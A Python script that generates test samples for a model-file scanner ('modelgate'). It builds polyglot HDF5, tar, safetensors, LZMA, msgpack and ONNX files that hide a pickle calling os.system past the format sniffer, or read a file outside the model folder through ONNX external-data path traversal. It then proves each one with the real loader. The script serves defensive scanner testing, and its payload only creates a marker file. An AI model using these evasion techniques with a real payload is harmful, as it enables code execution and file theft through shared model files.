#!/usr/bin/python3
"""Writes samples/routing-bypass2/: files a real loader reads from byte 0 (or field by field) as
another format than the one modelgate's sniffer took, each proven here by running that loader.

- h5-userblock-pickle.h5: an HDF5 file (h5py writes it, with a 512-byte user block) whose user
  block is a pickle. The sniffer found the superblock at 512; joblib.load / pickle.load read byte 0.
- h5-userblock-gzip.h5: the same with a 4 KiB user block holding a gzip stream of the pickle
  (padded past joblib's read buffer): joblib.load routes on the gzip magic.
- tar-nul-name.pt: a legacy-torch tar whose first header has an empty name (byte 0 NUL) and no
  ustar magic: CPython's tarfile reads it (it stops only on an all-zero block), torch.load unpickles
  its member `storages`.
- tar-safetensors.safetensors: a valid safetensors file (its header length's low byte is 0, the tar
  name's first byte) that is also such a tar: torch.load runs the pickle.
- lzma0-model.bin: a joblib-style LZMA-alone stream whose header declares a dictionary of 0 bytes
  (liblzma's .lzma auto-detection accepts 0): joblib.load decompresses and unpickles it.
- mpk-array-blob.bin: a msgpack top-level array `[bin(70000), {nd: True, kind: "O", data: pickle}]`
  (no map key before the blob): msgpack.unpackb with msgpack-numpy's object_hook unpickles it.
- mpk-stream-emptymap.bin: `{}` (0x80, also pickle's PROTO byte) then the msgpack-numpy map, read by
  msgpack.Unpacker as a stream of two objects: the hook unpickles the second.
  Their pickles spell the import with BINUNICODE + STACK_GLOBAL.
- onnx-unknown-field/model.bin: an onnx.helper model with an unknown top-level field (99) first and
  ir_version last, whose initializer's external data location `w/../../outside.txt` leaves the
  model's folder: onnx.load skips the unknown field and reads the outside file into the tensor.

Controls, written by the real tools, must stay clean: benign-userblock.h5 (h5py, a 512-byte user
block of zeros), benign-joblib-lzma.bin (joblib.dump with lzma compression).

Payloads are harmless (`touch routing-bypass2.marker` in the current directory). Each attack runs
with its real loader in a subprocess inside a fresh temporary directory and the marker (for ONNX:
the outside file's bytes in the tensor) must appear. msgpack-numpy is not installed for
/usr/bin/python3: its `decode` hook for object arrays (`pickle.loads(obj[b"data"])` when
`obj[b"nd"]` and kind `O`) is used when the package is absent. Run from the repository root with
/usr/bin/python3 (h5py, joblib, torch, msgpack, onnx, numpy).
"""
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile

import h5py
import joblib
import msgpack
import numpy as np
from onnx import TensorProto, helper

OUT = os.path.join("samples", "routing-bypass2")
MARKER = "routing-bypass2.marker"
OUTSIDE = b"routing-bypass2: bytes from outside the model folder\n"
EXPECTED = {}


class Touch:
    def __reduce__(self):
        return (os.system, ("touch " + MARKER,))


PICKLE = pickle.dumps(Touch(), protocol=2)
# what pickle writes for os.system on this platform (posix.system on Linux)
CALLEE = f"{os.system.__module__}.{os.system.__name__}"


def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


# protocol 4, BINUNICODE strings before STACK_GLOBAL
PICKLE_X = b"\x80\x04" + binunicode("os") + binunicode("system") + b"\x93" + binunicode("touch " + MARKER) + b"\x85R."


def path(name):
    return os.path.join(OUT, name)


def expect(name, verdict, rules=(), callee=None):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = sorted(rules)
    if callee:
        entry["callee"] = callee
    EXPECTED["routing-bypass2/" + name] = entry


def h5_with_userblock(name, size, block):
    with h5py.File(path(name), "w", userblock_size=size) as f:
        f["w"] = np.arange(4, dtype="f4")
    if block is not None:
        assert len(block) <= size
        with open(path(name), "r+b") as f:
            f.write(block)


def tar_nul_name():
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, data in [("pad", b""), ("storages", PICKLE_X)]:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
    b = bytearray(bio.getvalue())
    h = b[0:512]
    h[0:100] = b"\0" * 100  # empty name
    h[257:265] = b"\0" * 8  # no magic (v7 header)
    h[148:156] = b" " * 8
    h[148:156] = ("%06o\0 " % sum(h)).encode()
    b[0:512] = h
    return bytes(b)


def tar_safetensors():
    hlen = 0x300  # low byte 0 == the tar name's first byte

    def field(n, width):
        return (("%0" + str(width - 1) + "o") % n).encode() + b" "

    h = bytearray(b"a" * 512)
    h[0:8] = struct.pack("<Q", hlen)
    opening = b'{"__metadata__":{"k":"'
    h[8 : 8 + len(opening)] = opening
    h[100:108] = field(0o644, 8)
    h[108:116] = field(0, 8)
    h[116:124] = field(0, 8)
    h[124:136] = field(512, 12)
    h[136:148] = field(0, 12)
    h[156:157] = b"0"
    h[329:337] = field(0, 8)
    h[337:345] = field(0, 8)
    h[148:156] = b" " * 8
    h[148:156] = field(sum(h), 8)
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.GNU_FORMAT) as t:
        ti = tarfile.TarInfo("storages")
        ti.size = len(PICKLE)
        t.addfile(ti, io.BytesIO(PICKLE))
    rest = bio.getvalue()
    total = 1024 + len(rest)
    ndata = total - (8 + hlen)
    tail = b'"},"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (ndata, ndata)
    m0 = bytearray(b" " * 512)
    m0[0 : len(tail)] = tail
    assert 512 + len(tail) <= 8 + hlen
    return bytes(h) + bytes(m0) + rest


def lzma_dict0():
    c = bytearray(
        lzma.compress(PICKLE, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}])
    )
    c[1:5] = b"\0\0\0\0"
    return bytes(c)


EVIL_MAP = {b"nd": True, b"kind": b"O", b"data": PICKLE_X}


def onnx_unknown_field():
    w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[2])
    w.data_location = TensorProto.EXTERNAL
    entry = w.external_data.add()
    entry.key, entry.value = "location", "w/../../outside.txt"
    graph = helper.make_graph(
        [helper.make_node("Identity", ["W"], ["Y"])], "g", [], [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [2])], [w]
    )
    model = helper.make_model(graph, producer_name="routing-bypass2", opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    b = model.SerializeToString()
    assert b[0] == 0x08  # ir_version first: move it last, put field 99 (varint 1) first
    ir = b[:2]
    return b"\x98\x06\x01" + b[2:] + ir


MSGPACK_HOOK = (
    "try:\n"
    "    from msgpack_numpy import decode\n"
    "except ImportError:\n"
    "    import pickle\n"
    "    def decode(obj):\n"
    "        if b'nd' in obj and obj[b'nd'] is True and obj.get(b'kind') == b'O':\n"
    "            return pickle.loads(obj[b'data'])\n"
    "        return obj\n"
)
LOADERS = {
    "torch.load": "import sys, torch\ntorch.load(sys.argv[1])\n",
    "joblib.load": "import sys, joblib\njoblib.load(sys.argv[1])\n",
    "msgpack.unpackb": "import sys, msgpack\n" + MSGPACK_HOOK + "msgpack.unpackb(open(sys.argv[1], 'rb').read(), object_hook=decode)\n",
    "msgpack.Unpacker": "import sys, msgpack\n" + MSGPACK_HOOK + "[0 for o in msgpack.Unpacker(open(sys.argv[1], 'rb'), object_hook=decode)]\n",
    "onnx.load": "import sys, onnx\nsys.stdout.buffer.write(onnx.load(sys.argv[1]).graph.initializer[0].raw_data)\n",
    "h5py": "import sys, h5py\nprint(list(h5py.File(sys.argv[1], 'r')['w'][:]))\n",
}


def run_loader(name, loader):
    with tempfile.TemporaryDirectory(prefix="routing-bypass2-") as tmp:
        model_dir = os.path.join(tmp, "model")
        os.makedirs(os.path.join(model_dir, "w"))
        copy = os.path.join(model_dir, os.path.basename(name))
        shutil.copyfile(path(name), copy)
        with open(os.path.join(tmp, "outside.txt"), "wb") as f:
            f.write(OUTSIDE)
        done = subprocess.run([sys.executable, "-c", LOADERS[loader], copy], cwd=tmp, capture_output=True, timeout=300)
        return done, os.path.exists(os.path.join(tmp, MARKER))


def attack(name, data, loader, rules=("pickle/dangerous-global",), verdict="malicious", callee="os.system"):
    if data is not None:
        with open(path(name), "wb") as f:
            f.write(data)
    done, marked = run_loader(name, loader)
    ok = (done.returncode == 0 and done.stdout == OUTSIDE) if loader == "onnx.load" else marked
    if not ok:
        sys.exit(f"{name}: {loader} did not run the payload\n{done.stderr.decode(errors='replace')[-2000:]}")
    print(f"proven: {loader} {name}")
    expect(name, verdict, rules, callee)


def control(name, loaders):
    for loader in loaders:
        done, marked = run_loader(name, loader)
        if done.returncode != 0 or marked:
            sys.exit(f"{name}: {loader} failed on a control\n{done.stderr.decode(errors='replace')[-2000:]}")
        print(f"loads: {loader} {name}")
    expect(name, "clean")


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    os.makedirs(OUT)
    h5_with_userblock("h5-userblock-pickle.h5", 512, PICKLE)
    attack("h5-userblock-pickle.h5", None, "joblib.load", callee=CALLEE)
    gz = gzip.compress(PICKLE + b"\0" * (3 << 20), 9, mtime=0)
    h5_with_userblock("h5-userblock-gzip.h5", 4096, gz)
    attack("h5-userblock-gzip.h5", None, "joblib.load", callee=CALLEE)
    attack("tar-nul-name.pt", tar_nul_name(), "torch.load")
    attack("tar-safetensors.safetensors", tar_safetensors(), "torch.load", callee=CALLEE)
    attack("lzma0-model.bin", lzma_dict0(), "joblib.load", callee=CALLEE)
    attack("mpk-array-blob.bin", msgpack.packb([b"\0" * 70000, EVIL_MAP], use_bin_type=True), "msgpack.unpackb")
    attack("mpk-stream-emptymap.bin", b"\x80" + msgpack.packb(EVIL_MAP, use_bin_type=True), "msgpack.Unpacker")
    attack("onnx-unknown-field.bin", onnx_unknown_field(), "onnx.load", rules=("onnx/external-data-traversal",), callee=None)
    h5_with_userblock("benign-userblock.h5", 512, None)
    control("benign-userblock.h5", ["h5py"])
    joblib.dump({"w": np.arange(8.0)}, path("benign-joblib-lzma.bin"), compress="lzma")
    control("benign-joblib-lzma.bin", ["joblib.load"])
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(dict(sorted(EXPECTED.items())), f, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
